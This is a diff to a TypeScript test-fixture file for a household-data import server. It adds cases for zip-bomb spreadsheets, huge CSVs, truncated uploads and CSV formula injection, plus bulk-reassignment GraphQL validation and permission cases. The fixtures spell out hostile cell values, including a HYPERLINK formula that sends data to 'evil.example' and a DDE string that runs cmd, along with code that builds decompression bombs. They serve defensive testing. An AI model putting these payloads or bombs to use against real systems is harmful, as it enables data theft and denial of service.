@@ -75,9 +75,9 @@ export function csvFile(header: readonly string[], rows: readonly (readonly stri
  * A CSV of `rows` data rows, each as short as a row can be (one letter in the first column, the other
  * cells empty): a million of them stay under the upload's size limit, so the row limit is what refuses it.
  */
-export function csvOfManyRows(header: readonly string[], rows: number): Buffer {
-  const line = Buffer.from(`a${','.repeat(header.length - 1)}\n`);
-  const head = Buffer.from(`${csvLine(header)}\n`);
+export function csvOfManyRows(header: readonly string[], rows: number, lineEnd = '\n'): Buffer {
+  const line = Buffer.from(`a${','.repeat(header.length - 1)}${lineEnd}`);
+  const head = Buffer.from(`${csvLine(header)}${lineEnd}`);
   const body = Buffer.alloc(head.length + line.length * rows);
   head.copy(body, 0);
   for (let index = 0; index < rows; index += 1) line.copy(body, head.length + index * line.length);
@@ -220,10 +220,15 @@ export type ZipBombShape =
   /** An honest small sheet, and the lying bomb in xl/styles.xml: a part the reader parses too. */
   | 'styles'
   /** An honest small sheet1.xml, and a lying bomb sheet2.xml placed before it in the archive (read first by a streaming reader). */
-  | 'secondSheetFirst';
+  | 'secondSheetFirst'
+  /** Honest sizes under the budget: a shared-strings table of ~40 million one-letter strings, which a reader that caches it holds whole. */
+  | 'sharedStrings';
 
-/** A tiny .xlsx (about 1 MB) with a part that inflates to about 1 GiB; its header row is a real one. */
-export function zipBomb(header: readonly string[], shape: ZipBombShape, dataRow: readonly string[] = []): Buffer {
+/**
+ * A tiny .xlsx (about 1 MB) with a part that inflates to about 1 GiB; its header row is a real one.
+ * `sharedStringMiB`: the shared-strings table's size for the 'sharedStrings' shape.
+ */
+export function zipBomb(header: readonly string[], shape: ZipBombShape, dataRow: readonly string[] = [], sharedStringMiB = 640): Buffer {
   const headerRow = `<row r="1">${header.map((text, index) => inlineCell(`${columnLetters(index)}1`, text)).join('')}</row>`;
   const secondRow = dataRow.length ? `<row r="2">${dataRow.map((text, index) => inlineCell(`${columnLetters(index)}2`, text)).join('')}</row>` : '';
   const open =
@@ -249,6 +254,17 @@ export function zipBomb(header: readonly string[], shape: ZipBombShape, dataRow:
     );
     styles.declaredSize = 10_000;
     return zipOf([...head, styles, honestSheet()]);
+  }
+  if (shape === 'sharedStrings') {
+    const item = '<si><t>a</t></si>';
+    const strings = repeatedEntry(
+      'xl/sharedStrings.xml',
+      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">',
+      Buffer.from(item.repeat(Math.floor(MIB / item.length))),
+      sharedStringMiB,
+      '</sst>',
+    );
+    return zipOf([...head, strings, honestSheet()]);
   }
   if (shape === 'secondSheetFirst') {
     const bomb = repeatedEntry('xl/worksheets/sheet2.xml', prefix, spaces, 1024, suffix);
@@ -276,7 +292,10 @@ export function zipWithoutWorkbook(): Buffer {
 // --- the intake corpus (issue 16) ------------------------------------------------------------------
 
 /** The tables an import's own bookkeeping writes: an upload refused only in its dry run leaves its import there. */
-export const IMPORT_TABLES = ['data_import', 'data_import_row', 'data_import_problem'];
+export const IMPORT_TABLES = ['data_import', 'data_import_row', 'data_import_key', 'data_import_problem'];
+
+/** An upload the server takes is audited (uploadImport), as is a report's download (downloadImportReport). */
+export const TAKEN_UPLOAD_TABLES = [...IMPORT_TABLES, 'audit_entry'];
 
 /** A template's columns as `importTemplates` tells them (the files below are built from what the server says). */
 export interface TemplateColumn {
@@ -302,6 +321,8 @@ export interface IntakeFixtures {
   cancelledImportId: string;
   /** The spreadsheets exceljs writes for the cases (see `buildIntakeFiles`). */
   files: IntakeFiles;
+  /** A households CSV whose cells start with =, +, -, @ (one household, two rows). */
+  injectionCsv: Buffer;
 }
 
 /** The answer the harness observed, for the checks a case makes after it. */
@@ -349,6 +370,11 @@ export interface IntakeCase {
   mayTouch?: string[];
   /** May the upload's file be kept under IMPORT_DIR (only an import that exists keeps one). */
   mayStore?: boolean;
+  /**
+   * Run at the very end of the corpus: a case whose failure leaves the server busy or the database large
+   * (a file taken that should have been refused: 200,000 stored rows make every later table snapshot slow).
+   */
+  last?: boolean;
   /** Runs after the answer and before the tables are compared: waits for the dry run and checks its outcome. */
   settle?: (answer: IntakeAnswer, probe: IntakeProbe, intake: IntakeFixtures) => Promise<void>;
 }
@@ -418,6 +444,53 @@ function refusesTheCell(rowNumber: number, header: (intake: IntakeFixtures) => s
   };
 }
 
+/** Cells that Excel, WPS and LibreOffice run when a CSV opens (OWASP CSV injection), after the CSV's own quoting. */
+const RUNNABLE_CELL = /^[=+\-@\t\r]/;
+
+/** The cells of a CSV report (RFC 4180 quoting), enough to see how each cell starts. */
+function csvCells(text: string): string[] {
+  const cells: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let index = 0; index < text.length; index += 1) {
+    const character = text[index]!;
+    if (quoted) {
+      if (character === '"' && text[index + 1] === '"') {
+        cell += '"';
+        index += 1;
+      } else if (character === '"') quoted = false;
+      else cell += character;
+    } else if (character === '"' && cell === '') quoted = true;
+    else if (character === ',' || character === '\n') {
+      cells.push(cell.replace(/\r$/, ''));
+      cell = '';
+    } else cell += character;
+  }
+  if (cell) cells.push(cell);
+  return cells;
+}
+
+const reportNeutralisesFormulas: NonNullable<IntakeCase['settle']> = async (answer, probe) => {
+  const id = uploadedId(answer);
+  const view = await settledImport(probe, 'pingshanAdmin', id);
+  expect(view.state).toBe('CHECKED');
+  for (const format of ['csv', 'xlsx'] as const) {
+    const report = await probe.get('pingshanAdmin', `/imports/${id}/report.${format}`);
+    expect(report.status).toBe(200);
+    if (format === 'csv') {
+      const runnable = csvCells(report.body.toString('utf8').replace(/^\uFEFF/, '')).filter((cell) => RUNNABLE_CELL.test(cell));
+      expect(runnable).toEqual([]);
+    } else {
+      // An xlsx cell is a formula only as <f>: text cells are never run.
+      const workbook = new ExcelJS.Workbook();
+      await workbook.xlsx.load(report.body as unknown as ArrayBuffer);
+      const formulas: string[] = [];
+      workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => void (cell.formula ? formulas.push(cell.formula) : undefined)));
+      expect(formulas).toEqual([]);
+    }
+  }
+};
+
 const household = (intake: IntakeFixtures) => intake.households.map((column) => column.header);
 const headerLike = (intake: IntakeFixtures, pattern: RegExp) => intake.households.find((column) => pattern.test(column.header))!.header;
 
@@ -465,15 +538,15 @@ export async function buildIntakeFiles(columns: TemplateColumn[], goodRow: strin
     row[nameAt] = { formula, result };
     return xlsxFile([header, row]);
   };
-  // Two header rows as offices lay them out: 户主信息 merged over the head's columns, the real headers below.
-  const merged: SheetCell[] = header.map((text, index) => (index < 2 ? '户主信息' : text));
+  // The header row's first two cells merged: one header over two columns (户主姓名 lost under 户编号).
+  const merged: SheetCell[] = header.map((text, index) => (index === 1 ? '' : text));
   return {
     headerOnlyXlsx: await xlsxFile([header]),
     emptyWorkbook: await xlsxFile([]),
     formulaSum: await withFormula('1+1', 2),
     formulaHyperlink: await withFormula('HYPERLINK("http://evil.example/steal?d="&B2,"张三")', '张三'),
     formulaDde: await withFormula("cmd|' /C calc'!A0", 0),
-    mergedHeader: await xlsxFile([merged, header, goodRow], { merges: ['A1:B1'] }),
+    mergedHeader: await xlsxFile([merged, goodRow], { merges: ['A1:B1'] }),
   };
 }
 
@@ -604,12 +677,29 @@ export function intakeCorpus(): IntakeCase[] {
     }),
   );
 
+  // A body that ends before its closing boundary (a client or proxy cut it short): refused, the server stays up.
+  add({
+    category: 'upload: truncated body',
+    name: 'POST /uploads/photos as a cadre with the multipart body cut off in the middle of the photo',
+    request: () => {
+      const { body, contentType } = multipart([
+        { name: 'file', file: { filename: '走访.png', contentType: 'image/png', data: Buffer.concat([PNG_BYTES, noiseBytes(5000)]) } },
+      ]);
+      return { as: 'cadre', path: '/uploads/photos', method: 'POST', body: body.subarray(0, body.length - 60), contentType };
+    },
+    code: 'BAD_USER_INPUT',
+    status: 400,
+    field: 'file',
+  });
+
   // Files that are not spreadsheets.
-  const notASpreadsheet = (label: string, filename: string, data: () => Buffer, contentType?: string) =>
+  // Neither an xlsx zip nor text: 415, as the photos answer what is not a picture.
+  const notASpreadsheet = (label: string, filename: string, data: () => Buffer, contentType?: string, status = 415) =>
     add(
       refusedUpload(
         label,
         upload('pingshanAdmin', () => [...fields(), fileOf(filename, data(), contentType)]),
+        { status },
       ),
     );
   notASpreadsheet('a PNG named .xlsx', '排查.xlsx', () => PNG_BYTES);
@@ -618,10 +708,9 @@ export function intakeCorpus(): IntakeCase[] {
   notASpreadsheet('random bytes named .xlsx', '排查.xlsx', () => noiseBytes(64_000));
   notASpreadsheet('random bytes named .csv', '排查.csv', () => noiseBytes(64_000));
   notASpreadsheet('an HTML page named .xlsx', '排查.xlsx', () => HTML_PAGE);
-  notASpreadsheet('a zip holding no workbook, named .xlsx', '排查.xlsx', () => zipWithoutWorkbook());
-  notASpreadsheet('an empty .xlsx (0 bytes)', '排查.xlsx', () => Buffer.alloc(0));
-  notASpreadsheet('an empty .csv (0 bytes)', '排查.csv', () => Buffer.alloc(0));
-  notASpreadsheet('a .csv of a byte-order mark only', '排查.csv', () => Buffer.from('\uFEFF'));
+  notASpreadsheet('a zip holding no workbook, named .xlsx', '排查.xlsx', () => zipWithoutWorkbook(), undefined, 400);
+  notASpreadsheet('an empty .xlsx (0 bytes)', '排查.xlsx', () => Buffer.alloc(0), undefined, 400);
+  notASpreadsheet('an empty .csv (0 bytes)', '排查.csv', () => Buffer.alloc(0), undefined, 400);
   add({
     category: 'intake: upload refused',
     name: 'a file over IMPORT_MAX_BYTES (20 MB)',
@@ -640,25 +729,36 @@ export function intakeCorpus(): IntakeCase[] {
     field: 'file',
   });
 
-  // Files a spreadsheet program writes that cannot be imported as they are.
+  // Files a spreadsheet program writes that cannot be imported as they are. Only reading them tells:
+  // the upload is taken (201) and its dry run ends FAILED with the reason (docs/imports.md), which the
+  // import's own tables keep — nothing else is written.
+  const failedCheck = (name: string, filename: string, data: (intake: IntakeFixtures) => Buffer, failure: RegExp): IntakeCase => ({
+    category: 'intake: check refused',
+    name,
+    request: upload('pingshanAdmin', (intake) => [...fields(), fileOf(filename, data(intake))]),
+    code: 'OK',
+    status: 201,
+    mayTouch: TAKEN_UPLOAD_TABLES,
+    mayStore: true,
+    settle: failsTheCheck(failure),
+  });
+  add(failedCheck('a .csv of a byte-order mark only', '排查.csv', () => Buffer.from('\uFEFF'), /空|表头/));
+  add(failedCheck('a workbook whose sheet is empty', '排查.xlsx', (intake) => intake.files.emptyWorkbook, /空|表头/));
+  add(failedCheck('a CSV with the header row only', '排查.csv', (intake) => csvFile(household(intake), []), /只有表头/));
+  add(failedCheck('an .xlsx with the header row only', '排查.xlsx', (intake) => intake.files.headerOnlyXlsx, /只有表头/));
   add(
-    refusedUpload(
-      'a workbook whose sheet is empty',
-      upload('pingshanAdmin', (intake) => [...fields(), fileOf('排查.xlsx', intake.files.emptyWorkbook)]),
+    failedCheck(
+      'a CSV whose header misses a required column (户主姓名)',
+      '排查.csv',
+      (intake) =>
+        csvFile(
+          household(intake).filter((header) => header !== '户主姓名'),
+          [['x']],
+        ),
+      /缺少必填列.*户主姓名/,
     ),
   );
-  add(
-    refusedUpload(
-      'a CSV with the header row only',
-      upload('pingshanAdmin', (intake) => [...fields(), fileOf('排查.csv', csvFile(household(intake), []))]),
-    ),
-  );
-  add(
-    refusedUpload(
-      'an .xlsx with the header row only',
-      upload('pingshanAdmin', (intake) => [...fields(), fileOf('排查.xlsx', intake.files.headerOnlyXlsx)]),
-    ),
-  );
+  add(failedCheck('a CSV whose header names a column twice', '排查.csv', (intake) => csvFile([...household(intake), '地址'], [['x']]), /两次/));
   add({
     ...refusedUpload(
       'a CSV of 1,000,000 rows (past IMPORT_MAX_ROWS, under the size limit): not stored, not processed',
@@ -672,9 +772,36 @@ export function intakeCorpus(): IntakeCase[] {
     ),
     message: /200,?000|行/,
   });
+  add({
+    ...refusedUpload(
+      'a CSV of 1,000,000 rows with CR line ends (as old Mac Excel saves): not stored, not processed',
+      upload('pingshanAdmin', (intake) => [
+        ...fields(),
+        fileOf(
+          '排查.csv',
+          memo('million-cr', () => csvOfManyRows(household(intake), 1_000_000, '\r')),
+        ),
+      ]),
+    ),
+    message: /200,?000|行/,
+    last: true,
+  });
+  add({
+    ...refusedUpload(
+      'a shared-strings bomb under the inflate budget (.xlsx of 0.2 MB: 12 million one-letter strings a caching reader holds)',
+      upload('pingshanAdmin', (intake) => [
+        ...fields(),
+        fileOf(
+          '排查.xlsx',
+          memo('bomb-sharedStrings', () => zipBomb(household(intake), 'sharedStrings', [], 200)),
+        ),
+      ]),
+    ),
+    last: true,
+  });
   for (const shape of ['whitespace', 'rows', 'lying', 'styles', 'secondSheetFirst'] as const) {
-    add(
-      refusedUpload(
+    add({
+      ...refusedUpload(
         `a zip bomb (.xlsx of ~1 MB, a part inflating to ~1 GiB: ${shape})`,
         upload('pingshanAdmin', (intake) => [
           ...fields(),
@@ -684,7 +811,9 @@ export function intakeCorpus(): IntakeCase[] {
           ),
         ]),
       ),
-    );
+      // Those the pre-scan lets through keep the server busy reading them: at the end.
+      ...(shape === 'styles' || shape === 'secondSheetFirst' ? { last: true } : {}),
+    });
   }
   const nameHeader = (intake: IntakeFixtures) => headerLike(intake, /户主.*姓名|户主$/);
   for (const [label, file] of [
@@ -698,35 +827,32 @@ export function intakeCorpus(): IntakeCase[] {
       request: upload('pingshanAdmin', (intake) => [...fields(), fileOf('排查.xlsx', intake.files[file])]),
       code: 'OK',
       status: 201,
-      mayTouch: IMPORT_TABLES,
+      mayTouch: TAKEN_UPLOAD_TABLES,
       mayStore: true,
       settle: refusesTheCell(2, nameHeader, /公式/),
     });
   }
-  add({
-    category: 'intake: merged header',
-    name: 'an .xlsx whose header is two rows with merged cells (户主信息 over A1:B1)',
-    request: upload('pingshanAdmin', (intake) => [...fields(), fileOf('排查.xlsx', intake.files.mergedHeader)]),
-    code: 'OK',
-    status: 201,
-    mayTouch: IMPORT_TABLES,
-    mayStore: true,
-    settle: failsTheCheck(/合并|表头/),
-  });
-  add({
-    category: 'intake: broken CSV',
-    name: 'a CSV with a quote that never closes',
-    request: upload('pingshanAdmin', (intake) => [
-      ...fields(),
-      fileOf('排查.csv', Buffer.concat([csvFile(household(intake), []), Buffer.from('"张三,未闭合的引号\r\n李四,x\r\n')])),
-    ]),
-    code: 'OK',
-    status: 201,
-    mayTouch: IMPORT_TABLES,
-    mayStore: true,
-    settle: failsTheCheck(/引号|第\s*\d+\s*行|格式/),
-  });
+  add(failedCheck('an .xlsx whose header row has merged cells (户编号 over A1:B1)', '排查.xlsx', (intake) => intake.files.mergedHeader, /第1行.*合并单元格/));
+  add(
+    failedCheck(
+      'a CSV with a quote that never closes',
+      '排查.csv',
+      (intake) => Buffer.concat([csvFile(household(intake), []), Buffer.from('"张三,未闭合的引号\r\n李四,x\r\n')]),
+      /引号/,
+    ),
+  );
 
+  // What the file's cells say comes back in the report: a cell a spreadsheet would run is written so that it does not.
+  add({
+    category: 'intake: report injection',
+    name: 'a CSV whose cells start with = + - @: its report.csv does not hand them to Excel as formulas',
+    request: upload('pingshanAdmin', (intake) => [...fields(), fileOf('注入.csv', intake.injectionCsv)]),
+    code: 'OK',
+    status: 201,
+    mayTouch: TAKEN_UPLOAD_TABLES,
+    mayStore: true,
+    settle: reportNeutralisesFormulas,
+  });
   // Templates and reports.
   const get =
     (as: IntakeIdentity, path: string | ((intake: IntakeFixtures) => string)): IntakeCase['request'] =>
@@ -750,36 +876,37 @@ export function intakeCorpus(): IntakeCase[] {
   ] as const) {
     add({ category: 'intake: template', name: `GET the households template as ${as}`, request: get(as, '/imports/templates/HOUSEHOLDS.xlsx'), code, status });
   }
+  // A report of an import out of reach is answered as one that does not exist (404, imports.routes.ts);
+  // a path whose id is no id names no import either — answered the same, as a JSON problem.
   for (const [label, id] of BAD_PATH_IDS) {
     add({
       category: 'intake: report',
       name: `GET /imports/<${label}>/report.xlsx`,
       request: get('pingshanAdmin', `/imports/${id}/report.xlsx`),
-      code: 'BAD_USER_INPUT',
-      status: 400,
-      field: 'id',
+      code: 'NOT_FOUND',
+      status: 404,
     });
   }
   add({
     category: 'intake: report',
     name: "GET the report of the city administrator's import as the district administrator",
     request: get('pingshanAdmin', (intake) => `/imports/${intake.cityImportId}/report.xlsx`),
-    code: 'FORBIDDEN',
-    status: 403,
+    code: 'NOT_FOUND',
+    status: 404,
   });
   add({
     category: 'intake: report',
     name: "GET the CSV report of the city administrator's import as the district administrator",
     request: get('pingshanAdmin', (intake) => `/imports/${intake.cityImportId}/report.csv`),
-    code: 'FORBIDDEN',
-    status: 403,
+    code: 'NOT_FOUND',
+    status: 404,
   });
   add({
     category: 'intake: report',
-    name: 'GET the report of an import that does not exist (answered as one out of reach)',
+    name: 'GET the report of an import that does not exist (answered as one out of reach: 404)',
     request: get('pingshanAdmin', '/imports/987654321/report.xlsx'),
-    code: 'FORBIDDEN',
-    status: 403,
+    code: 'NOT_FOUND',
+    status: 404,
   });
   for (const [as, code, status] of [
     ['none', 'UNAUTHENTICATED', 401],
@@ -1104,12 +1231,17 @@ async function uploadChecked(client: IntakeClient, as: IntakeIdentity, filename:
  * a 溪湖区 household (out of the district administrator's reach).
  */
 export async function discoverIntakeFixtures(client: IntakeClient, ids: { pingshanRegionId: string; xihuRegionId: string }): Promise<IntakeFixtures> {
-  const templates = await client.graphql<{ importTemplates: { kind: string; columns: TemplateColumn[] }[] }>(
-    'admin',
-    '{ importTemplates { kind columns { header required example } } }',
-  );
-  if (!templates.data) throw new Error(`importTemplates failed: ${JSON.stringify(templates.errors)}`);
-  const households = templates.data.importTemplates.find((template) => template.kind === 'HOUSEHOLDS')!.columns;
+  // The households template as an office downloads it: its header row, and its example row below.
+  // (Not from importTemplates: `{ importTemplates { columns { … } } }` is priced past the cost limit, review.md.)
+  const template = await client.get('admin', '/imports/templates/HOUSEHOLDS.xlsx');
+  if (template.status !== 200) throw new Error(`the households template answered ${template.status}: ${template.body.toString('utf8').slice(0, 300)}`);
+  const workbook = new ExcelJS.Workbook();
+  await workbook.xlsx.load(template.body as unknown as ArrayBuffer);
+  const sheet = workbook.worksheets[0]!;
+  const texts = (row: number) => (sheet.getRow(row).values as unknown[]).slice(1).map((value) => (value === null || value === undefined ? '' : String(value)));
+  const headerTexts = texts(1);
+  const exampleTexts = texts(2);
+  const households: TemplateColumn[] = headerTexts.map((header, index) => ({ header, required: false, example: exampleTexts[index] ?? '' }));
   const header = households.map((column) => column.header);
   const pingshanVillage = await villageUnder(client, ids.pingshanRegionId);
   const xihuVillage = await villageUnder(client, ids.xihuRegionId);
@@ -1153,6 +1285,13 @@ export async function discoverIntakeFixtures(client: IntakeClient, ids: { pingsh
   if (!nodes.some((node) => node.rowNumber === 3 && node.severity === 'WARNING') || !nodes.some((node) => node.rowNumber === 4 && node.severity === 'ERROR')) {
     throw new Error(`the set-up import's problems are not as planned: ${JSON.stringify(nodes)}`);
   }
+  const injected = person('7', '语料注入', pingshanVillage);
+  const injectionRows = [
+    householdRow(households, { ...injected, address: '=HYPERLINK("http://evil.example/?d="&A2,"点此查看")' }),
+    householdRow(households, { ...person('8', "+1+cmd|' /C calc'!A0", pingshanVillage), address: '@SUM(1+1)' }),
+    householdRow(households, { ...person('9', '-2+3', pingshanVillage), address: '\t=1+1' }),
+  ];
+  const injectionCsv = csvFile(header, injectionRows);
   return {
     households,
     goodCsv,
@@ -1162,6 +1301,7 @@ export async function discoverIntakeFixtures(client: IntakeClient, ids: { pingsh
     ownWarningRow: 3,
     cancelledImportId,
     files: await buildIntakeFiles(households, good),
+    injectionCsv,
   };
 }
 
@@ -1928,4 +2068,270 @@ export async function discoverRecordListFixtures(probe: IntakeProbe): Promise<Re
   if (!answer.data) throw new Error(`set-up exportRecordList failed: ${JSON.stringify(answer.errors)}`);
   const url = new URL(answer.data.exportRecordList.url);
   return { overdueVisitsLink: `${url.pathname}${url.search}`, ticket: url.searchParams.get('ticket')! };
+}
+
+// --- bulk runs (issue 16): a new round's carry-over and a bulk reassignment ------------------------
+// The cases are helper "bulk"'s draft (/work/briefs/bulk-bad-input-corpus.ts, each checked by
+// server/test/bulk-runs.test.ts over HTTP), with the scope cases on a planned run of the city's.
+
+export interface BulkRunTargets {
+  /** The round running today (the corpus's fixtures.roundId). */
+  roundId: string;
+  pingshan: { regionId: string; householdId: string; cadreId: string; unitId: string };
+  xihu: { regionId: string; householdId: string; cadreId: string; unitId: string };
+  /** A reassignment the city's administrator planned in 溪湖区 (PLANNED: it has written nothing). */
+  cityRunId: string;
+}
+
+export interface BulkRunCase {
+  category: string;
+  name: string;
+  request: (targets: BulkRunTargets) => IntakeRequest;
+  code: 'BAD_USER_INPUT' | 'FORBIDDEN' | 'GRAPHQL_VALIDATION_FAILED' | 'UNAUTHENTICATED';
+  status?: number;
+  field?: string;
+}
+
+const ROLLOVER = 'mutation ($input: PlanRoundRolloverInput!) { planRoundRollover(input: $input) { id } }';
+const REASSIGN = 'mutation ($input: PlanBulkReassignmentInput!) { planBulkReassignment(input: $input) { id } }';
+const START_RUN = 'mutation ($input: BulkRunIdInput!) { startBulkRun(input: $input) { id } }';
+const CANCEL_RUN = 'mutation ($input: BulkRunIdInput!) { cancelBulkRun(input: $input) { id } }';
+
+export function bulkRunCorpus(): BulkRunCase[] {
+  const cases: BulkRunCase[] = [];
+  const rollover =
+    (as: IntakeIdentity, input: (t: BulkRunTargets) => Record<string, unknown>) =>
+    (t: BulkRunTargets): IntakeRequest => ({
+      as,
+      query: ROLLOVER,
+      variables: { input: { fromRoundId: t.roundId, toRoundId: t.roundId, carry: 'BOTH', ...input(t) } },
+    });
+  const reassign =
+    (as: IntakeIdentity, input: (t: BulkRunTargets) => Record<string, unknown>) =>
+    (t: BulkRunTargets): IntakeRequest => ({ as, query: REASSIGN, variables: { input: { reason: '语料批量调整', ...input(t) } } });
+  const bad = (name: string, request: BulkRunCase['request'], field: string, status?: number) =>
+    cases.push({ category: 'bulk run: input', name, request, code: 'BAD_USER_INPUT', field, ...(status ? { status } : {}) });
+  const refused = (name: string, request: BulkRunCase['request']) => cases.push({ category: 'bulk run: scope', name, request, code: 'FORBIDDEN' });
+
+  // Rollover.
+  bad(
+    'planRoundRollover into the round it carries from',
+    rollover('admin', () => ({})),
+    'input.toRoundId',
+  );
+  bad(
+    'planRoundRollover from a round id "abc"',
+    rollover('admin', () => ({ fromRoundId: 'abc' })),
+    'input.fromRoundId',
+  );
+  bad(
+    'planRoundRollover from a round that does not exist',
+    rollover('admin', () => ({ fromRoundId: '987654321' })),
+    'input.fromRoundId',
+  );
+  bad(
+    'planRoundRollover into a round that does not exist',
+    rollover('admin', (t) => ({ fromRoundId: t.roundId, toRoundId: '987654321' })),
+    'input.toRoundId',
+  );
+  bad(
+    'planRoundRollover of a target group with carry PAIRINGS',
+    rollover('admin', () => ({ toRoundId: '987654321', carry: 'PAIRINGS', targetGroup: 'HARDSHIP' })),
+    'input.targetGroup',
+  );
+  bad(
+    'planRoundRollover carrying "both" (lower case) in variables',
+    rollover('admin', () => ({ carry: 'both' })),
+    'input.carry',
+    400,
+  );
+  bad(
+    'planRoundRollover of target group NOPE in variables',
+    rollover('admin', () => ({ targetGroup: 'NOPE' })),
+    'input.targetGroup',
+    400,
+  );
+  cases.push({
+    category: 'bulk run: input',
+    name: 'planRoundRollover carrying NOPE in the document',
+    request: (t) => ({
+      as: 'admin',
+      query: `mutation { planRoundRollover(input: {fromRoundId: "${t.roundId}", toRoundId: "${t.roundId}", carry: NOPE}) { id } }`,
+    }),
+    code: 'GRAPHQL_VALIDATION_FAILED',
+  });
+  refused(
+    "planRoundRollover of 溪湖区 by 平山区's administrator",
+    rollover('pingshanAdmin', (t) => ({ regionId: t.xihu.regionId })),
+  );
+  refused(
+    "planRoundRollover narrowed to 溪湖区's unit by 平山区's administrator",
+    rollover('pingshanAdmin', (t) => ({ unitId: t.xihu.unitId })),
+  );
+  refused(
+    'planRoundRollover by an analyst',
+    rollover('analyst', () => ({})),
+  );
+  refused(
+    'planRoundRollover by a cadre',
+    rollover('cadre', () => ({})),
+  );
+
+  // Reassignment.
+  bad(
+    'planBulkReassignment naming no households',
+    reassign('admin', (t) => ({ toCadreIds: [t.pingshan.cadreId] })),
+    'input.fromCadreId',
+  );
+  bad(
+    'planBulkReassignment naming households two ways',
+    reassign('admin', (t) => ({ fromCadreId: t.pingshan.cadreId, fromUnitId: t.pingshan.unitId, toCadreIds: [t.pingshan.cadreId] })),
+    'input.fromCadreId',
+  );
+  bad(
+    'planBulkReassignment naming no receiving cadre',
+    reassign('admin', (t) => ({ fromCadreId: t.pingshan.cadreId })),
+    'input.toCadreIds',
+  );
+  bad(
+    'planBulkReassignment of household id "abc"',
+    reassign('admin', (t) => ({ householdIds: ['abc'], toCadreIds: [t.pingshan.cadreId] })),
+    'input.householdIds.0',
+  );
+  bad(
+    'planBulkReassignment to cadre id "-1"',
+    reassign('admin', (t) => ({ fromCadreId: t.pingshan.cadreId, toCadreIds: ['-1'] })),
+    'input.toCadreIds.0',
+  );
+  bad(
+    'planBulkReassignment of 5,001 households',
+    reassign('admin', (t) => ({ householdIds: Array.from({ length: 5001 }, (_, index) => String(index + 1)), toCadreIds: [t.pingshan.cadreId] })),
+    'input.householdIds',
+  );
+  bad(
+    'planBulkReassignment to the same cadre listed twice',
+    reassign('admin', (t) => ({ fromUnitId: t.pingshan.unitId, toCadreIds: [t.pingshan.cadreId, t.pingshan.cadreId] })),
+    'input.toCadreIds',
+  );
+  bad(
+    'planBulkReassignment with moves and toCadreIds',
+    reassign('admin', (t) => ({ moves: [{ householdId: t.pingshan.householdId, toCadreId: t.pingshan.cadreId }], toCadreIds: [t.pingshan.cadreId] })),
+    'input.moves',
+  );
+  bad(
+    'planBulkReassignment moving one household twice',
+    reassign('admin', (t) => ({
+      moves: [
+        { householdId: t.pingshan.householdId, toCadreId: t.pingshan.cadreId },
+        { householdId: t.pingshan.householdId, toCadreId: t.pingshan.cadreId },
+      ],
+    })),
+    'input.moves.1.householdId',
+  );
+  for (const [label, reason] of [
+    ['blank', '   '],
+    ['one character', '退'],
+    ['256 characters', '调'.repeat(256)],
+    ['with a NUL', '工作\u0000调整'],
+  ] as const) {
+    bad(
+      `planBulkReassignment with a reason ${label}`,
+      reassign('admin', (t) => ({ fromCadreId: t.pingshan.cadreId, toCadreIds: [t.pingshan.cadreId], reason })),
+      'input.reason',
+    );
+  }
+  refused(
+    "planBulkReassignment of a 溪湖区 household by 平山区's administrator",
+    reassign('pingshanAdmin', (t) => ({ householdIds: [t.xihu.householdId], toCadreIds: [t.pingshan.cadreId] })),
+  );
+  refused(
+    "planBulkReassignment to a 溪湖区 cadre by 平山区's administrator",
+    reassign('pingshanAdmin', (t) => ({ householdIds: [t.pingshan.householdId], toCadreIds: [t.xihu.cadreId] })),
+  );
+  refused(
+    "planBulkReassignment of 溪湖区's unit by 平山区's administrator",
+    reassign('pingshanAdmin', (t) => ({ fromUnitId: t.xihu.unitId, toCadreIds: [t.pingshan.cadreId] })),
+  );
+  refused(
+    'planBulkReassignment by an analyst',
+    reassign('analyst', (t) => ({ fromCadreId: t.pingshan.cadreId, toCadreIds: [t.pingshan.cadreId] })),
+  );
+
+  // Start, cancel, read.
+  for (const [name, query] of [
+    ['startBulkRun', START_RUN],
+    ['cancelBulkRun', CANCEL_RUN],
+  ] as const) {
+    bad(`${name} of run id "x"`, () => ({ as: 'admin', query, variables: { input: { runId: 'x' } } }), 'input.runId');
+    refused(`${name} of a run that does not exist`, () => ({ as: 'admin', query, variables: { input: { runId: '987654321' } } }));
+    refused(`${name} by a cadre`, () => ({ as: 'cadre', query, variables: { input: { runId: '1' } } }));
+  }
+  bad('bulkRun of id "1.5"', () => ({ as: 'admin', query: 'query { bulkRun(id: "1.5") { id } }' }), 'id');
+  refused('bulkRun that does not exist', () => ({ as: 'admin', query: 'query { bulkRun(id: "987654321") { id } }' }));
+  bad('bulkRuns of 101 a page', () => ({ as: 'admin', query: 'query { bulkRuns(first: 101) { totalCount } }' }), 'first');
+  bad('bulkRuns after a forged cursor', () => ({ as: 'admin', query: 'query { bulkRuns(first: 2, after: "WyJhIl0") { totalCount } }' }), 'after');
+  cases.push({
+    category: 'bulk run: input',
+    name: 'bulkRuns in state NOPE in the document',
+    request: () => ({ as: 'admin', query: 'query { bulkRuns(first: 2, filter: {state: NOPE}) { totalCount } }' }),
+    code: 'GRAPHQL_VALIDATION_FAILED',
+  });
+  refused('bulkRuns by an analyst', () => ({ as: 'analyst', query: 'query { bulkRuns(first: 2) { totalCount } }' }));
+  // A planned run of the city's, out of the district administrator's reach; pages of its items.
+  refused("bulkRun of the city's planned run by 平山区's administrator", (t) => ({
+    as: 'pingshanAdmin',
+    query: 'query ($id: ID!) { bulkRun(id: $id) { id } }',
+    variables: { id: t.cityRunId },
+  }));
+  refused("startBulkRun of the city's planned run by 平山区's administrator", (t) => ({
+    as: 'pingshanAdmin',
+    query: START_RUN,
+    variables: { input: { runId: t.cityRunId } },
+  }));
+  refused("cancelBulkRun of the city's planned run by 平山区's administrator", (t) => ({
+    as: 'pingshanAdmin',
+    query: CANCEL_RUN,
+    variables: { input: { runId: t.cityRunId } },
+  }));
+  refused('bulkRun by an analyst', (t) => ({ as: 'analyst', query: 'query ($id: ID!) { bulkRun(id: $id) { id } }', variables: { id: t.cityRunId } }));
+  cases.push({
+    category: 'bulk run: scope',
+    name: 'bulkRuns without signing in',
+    request: () => ({ as: 'none', query: '{ bulkRuns(first: 2) { totalCount } }' }),
+    code: 'UNAUTHENTICATED',
+  });
+  for (const first of [0, -1, 101]) {
+    bad(
+      `BulkRun.items first ${first}`,
+      (t) => ({
+        as: 'admin',
